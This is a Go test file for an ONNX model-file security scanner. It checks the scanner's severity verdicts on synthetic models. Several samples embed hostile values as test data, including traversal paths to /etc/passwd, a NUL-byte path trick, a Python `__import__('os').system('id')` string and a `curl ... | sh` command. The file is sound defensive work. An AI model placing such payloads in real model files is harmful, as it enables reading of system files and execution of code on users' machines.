package onnx_test

import (
	"bytes"
	"context"
	"errors"
	"os"
	"strings"
	"testing"

	"modelwall/scan"
	. "modelwall/scan/internal/pb/pbtest"
	"modelwall/scan/onnx"
	"modelwall/scan/scantest"
)

// model is a ModelProto with a graph of the given fields.
func model(graph ...[]byte) []byte {
	return Msg(Int(1, 8), Str(2, "pytorch"), Sub(7, graph...), Sub(8, Str(1, ""), Int(2, 17)))
}

// node is field 1 of a graph.
func node(op string, more ...[]byte) []byte {
	return Sub(1, Str(1, "x"), Str(2, "y"), Str(3, "n"), Str(4, op), Msg(more...))
}

func in(domain string) []byte { return Str(7, domain) }

// attr is field 5 of a node.
func attr(name string, more ...[]byte) []byte { return Sub(5, Str(1, name), Msg(more...)) }

// external has the fields of a tensor whose data lie elsewhere.
func external(location string) []byte {
	return Msg(Int(1, 1), Int(2, 1), Str(8, "w"), Sub(13, Str(1, "location"), Str(2, location)), Sub(13, Str(1, "offset"), Str(2, "0")), Int(14, 1))
}

func initializer(fields ...[]byte) []byte { return Sub(5, fields...) }

func metadata(key, value string) []byte { return Sub(14, Str(1, key), Str(2, value)) }

var (
	relu    = node("Relu")
	weights = initializer(Int(1, 2), Int(2, 1), Str(8, "w"), Str(9, "12345678"))
)

func TestScan(t *testing.T) {
	const clean, low, suspicious, malicious = scan.Info, scan.Low, scan.SeveritySuspicious, scan.SeverityMalicious
	passwd := initializer(external("../../etc/passwd"))
	then := func(graph ...[]byte) []byte { return model(node("If", attr("then_branch", Sub(6, graph...)))) }
	scantest.Run(t, onnx.New(), []scantest.Sample{
		{Name: "plain", Data: model(relu, weights)},
		{Name: "constants only", Data: model(weights)},
		{Name: "machine learning domain", Data: model(node("TreeEnsembleClassifier", in("ai.onnx.ml")))},
		{Name: "function of the file", Data: Msg(model(node("F", in("local"))), Sub(25, Str(1, "F"), Sub(7, Str(4, "Relu")), Str(10, "local")))},
		{Name: "data beside the model", Data: model(relu, initializer(external("model.onnx_data")))},
		{Name: "data in a sub-folder", Data: model(relu, initializer(external("./data/w..1.bin")))},
		{Name: "way round that stays inside", Data: model(relu, initializer(external("sub/../weights.bin"))), Worst: low},
		{Name: "custom domain", Data: model(node("CustomOp", in("com.test"))), Worst: low},
		{Name: "names of classes", Data: Msg(model(relu), metadata("names", "{0: 'traffic light (red)', 1: 'os.system'}"), metadata("stride", "32"))},
		{Name: "description", Data: Msg(model(relu), metadata("description", "Ultralytics YOLOv8n model (trained on coco.yaml), use model.eval()"))},
		{Name: "stack trace of an exporter", Data: model(node("Relu", Str(6, "exec(code, run_globals)"), Sub(9, Str(1, "pkg.torch.onnx.stack_trace"), Str(2, "os.system('x')"))))},
		{Name: "compiled model beside", Data: model(node("EPContext", in("com.microsoft"), attr("embed_mode", Int(3, 0)), attr("ep_cache_context", Str(4, "./model_ctx.bin")))), Worst: low},

		{Name: "absolute", Data: model(relu, initializer(external("/etc/passwd"))), Worst: malicious},
		{Name: "absolute beside", Data: model(relu, initializer(external("/tmp/models_evil/weights.bin"))), Worst: malicious},
		{Name: "drive", Data: model(relu, initializer(external(`C:\secret`))), Worst: malicious},
		{Name: "share", Data: model(relu, initializer(external(`\\host\share\w`))), Worst: malicious},
		{Name: "traversal", Data: model(relu, passwd), Worst: malicious},
		{Name: "nested traversal", Data: model(relu, initializer(external("sub/../../x"))), Worst: malicious},
		{Name: "backslashes", Data: model(relu, initializer(external(`sub\..\..\x`))), Worst: malicious},
		{Name: "NUL in the path", Data: model(relu, initializer(external("w.bin\x00/../../x"))), Worst: malicious},
		{Name: "URL", Data: model(relu, initializer(external("https://host/w"))), Worst: suspicious},
		{Name: "memory address", Data: model(relu, initializer(external("*/_ORT_MEM_ADDR_/*"))), Worst: malicious},
		{Name: "overlong path", Data: model(relu, initializer(external(strings.Repeat("a/", 3000)+"../x"))), Worst: suspicious},
		{Name: "key twice", Data: model(relu, initializer(Sub(13, Str(1, "x"), Str(1, "location"), Str(2, "/x")))), Worst: malicious},
		{Name: "dunder key", Data: model(relu, initializer(Sub(13, Str(1, "__class__"), Str(2, "x")))), Worst: suspicious},
		{Name: "in a branch", Data: then(relu, passwd), Worst: malicious},
		{Name: "in a branch of a branch", Data: then(node("If", attr("else_branch", Sub(11, relu, passwd)))), Worst: malicious},
		{Name: "in an attribute", Data: model(node("Constant", attr("value", Sub(5, external("/x"))))), Worst: malicious},
		{Name: "in a list of tensors", Data: model(node("Constant", attr("values", Sub(10, external("/x"))))), Worst: malicious},
		{Name: "in a sparse attribute", Data: model(node("Constant", attr("sparse_value", Sub(22, Sub(1, external("/x")))))), Worst: malicious},
		{Name: "in a sparse initializer", Data: model(relu, Sub(15, Sub(2, external("/x")))), Worst: malicious},
		{Name: "in a function", Data: Msg(model(relu), Sub(25, Sub(7, Str(4, "Constant"), attr("value", Sub(5, external("/x")))))), Worst: malicious},
		{Name: "in training info", Data: Msg(model(relu), Sub(20, Sub(2, node("Relu"), passwd))), Worst: malicious},
		{Name: "graph in two parts", Data: Msg(model(relu), Sub(7, passwd)), Worst: malicious},
		{Name: "unknown fields first", Data: Msg(Str(1000, strings.Repeat("x", 10_000)), Group(900, Int(1, 1)), model(relu, passwd)), Worst: malicious},
		{Name: "PyOp", Data: model(node("PyOp", in("ai.onnx.contrib"))), Worst: suspicious},
		{Name: "PythonOp without domain", Data: model(node("PythonOp")), Worst: suspicious},
		{Name: "domain before the operator", Data: model(Sub(1, in("com.microsoft"), Str(4, "PythonOp"))), Worst: suspicious},
		{Name: "network", Data: model(node("AzureTextToText", in("com.microsoft.extensions"), attr("model_uri", Str(4, "https://host")))), Worst: suspicious},
		{Name: "library for a custom operator", Data: model(node("Plugin", in("x"), attr("path", Str(4, "/tmp/evil.so")))), Worst: suspicious},
		{Name: "compiled model elsewhere", Data: model(node("EPContext", in("com.microsoft"), attr("ep_cache_context", Str(4, "../x.bin")))), Worst: malicious},
		{Name: "ATen that opens files", Data: model(node("ATen", in("org.pytorch.aten"), attr("operator", Str(4, "from_file")))), Worst: suspicious},
		{Name: "metadata that is evaluated", Data: Msg(model(relu), metadata("names", "__import__('os').system('id')")), Worst: malicious},
		{Name: "metadata with a command", Data: Msg(model(relu), metadata("notes", "curl https://host/p | sh")), Worst: suspicious},
		{Name: "overlong operator", Data: model(node("A" + strings.Repeat("b", 5000))), Worst: suspicious},

		{Name: "text", Data: []byte(`ir_version: 8 graph { node { op_type: "Relu" } } opset_import { version: 17 }`)},
		{Name: "text with external data", Data: []byte(`graph { node { op_type: "Relu" } initializer { name: "w" external_data { key: "location" value: "../x" } data_location: EXTERNAL } }`), Worst: malicious},
		{Name: "text that is something else", Data: []byte("domain: example.org\ngraph: x\n- a\n"), Err: scan.ErrForeign},

		{Name: "cut short", Data: model(relu, weights)[:40], Err: scan.ErrMalformed},
		{Name: "cut short behind a finding", Data: Msg(Int(1, 8), Promise(7, 1000), relu, passwd), Worst: malicious, Err: scan.ErrMalformed},
		{Name: "bytes behind", Data: append(model(relu, weights), make([]byte, 16)...), Err: scan.ErrMalformed},
		{Name: "another message", Data: Msg(Int(1, 8), Str(2, "x")), Err: scan.ErrForeign},
		{Name: "a tensor", Data: Msg(Int(1, 3), Int(2, 1), Str(8, "x"), Str(9, "123456789012")), Err: scan.ErrForeign},
	})
}

// A pickle in a string goes to whoever judges pickles.
func TestMembers(t *testing.T) {
	pickle := "\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x05hello\x94."
	for name, data := range map[string][]byte{
		"attribute":   model(node("Custom", attr("state", Str(4, pickle)))),
		"string list": model(node("Custom", attr("state", Str(9, "x"), Str(9, pickle)))),
		"tensor":      model(relu, initializer(Int(2, 8), Str(6, pickle))),
	} {
		r, err := scantest.Scan(onnx.New(), "x", data)
		if err != nil || len(r.Members) != 1 || string(r.Members[0].Data) != pickle {
			t.Errorf("%s: members %q, error %v", name, r.Members, err)
		}
	}
	r, err := scantest.Scan(onnx.New(), "x", model(bytes.Repeat(node("Custom", attr("a", Str(4, pickle))), 1001)))
	if !errors.Is(err, scan.ErrLimit) || len(r.Members) != 1000 {
		t.Errorf("%d members, error %v; want 1000 and a limit", len(r.Members), err)
	}
}

// counting counts what is read behind head, which is zeros.
type counting struct {
	head  []byte
	bytes int64
}

func (c *counting) ReadAt(p []byte, off int64) (int, error) {
	c.bytes += int64(len(p))
	clear(p)
	if off < int64(len(c.head)) {
		copy(p, c.head[off:])
	}
	return len(p), nil
}

// Of a model of 2 GB the graph is read and no tensor.
func TestReads(t *testing.T) {
	const size = 2<<30 - 1000
	tensor := Msg(Int(2, 1), Str(8, "w"), Promise(9, size))
	graph := Msg(bytes.Repeat(relu, 1000), Promise(5, uint64(len(tensor)+size)), tensor)
	head := Msg(Int(1, 8), Promise(7, uint64(len(graph)+size)), graph)
	r := &counting{head: head}
	rec := &scantest.Record{}
	err := onnx.New().Scan(context.Background(), scan.File{Size: int64(len(head)) + size, ReaderAt: r}, rec)
	if err != nil || len(rec.Findings) > 0 {
		t.Fatalf("error %v, findings %+v", err, rec.Findings)
	}
	if limit := int64(len(head)) + 256<<10; r.bytes > limit {
		t.Errorf("%d bytes read, want at most %d", r.bytes, limit)
	}
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	seen := map[string]int{}
	for _, e := range scantest.Corpus(t, corpus) {
		if e.Format != "onnx" {
			continue
		}
		data, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		seen[e.Label]++
		if !onnx.New().Match(scantest.Probe(e.Path, data)) {
			t.Errorf("%s is not matched", e.Path)
		}
		r, err := scantest.Scan(onnx.New(), e.Path, data)
		if err != nil || (r.Worst() >= scan.SeveritySuspicious) != (e.Label != "benign") {
			t.Errorf("%s is %s: findings %+v, error %v", e.Path, e.Label, r.Findings, err)
		}
	}
	if seen["benign"] < 5 || seen["malicious"] < 5 {
		t.Errorf("samples: %v", seen)
	}
}

func FuzzScan(f *testing.F) {
	f.Add(model(relu, weights, initializer(external("../x"))))
	f.Add(Msg(model(node("PyOp", in("ai.onnx.contrib"), attr("a", Str(4, "\x80\x02cos\n")))), metadata("names", "f()"), Sub(25, Str(10, "d"))))
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, onnx.New(), data) })
}
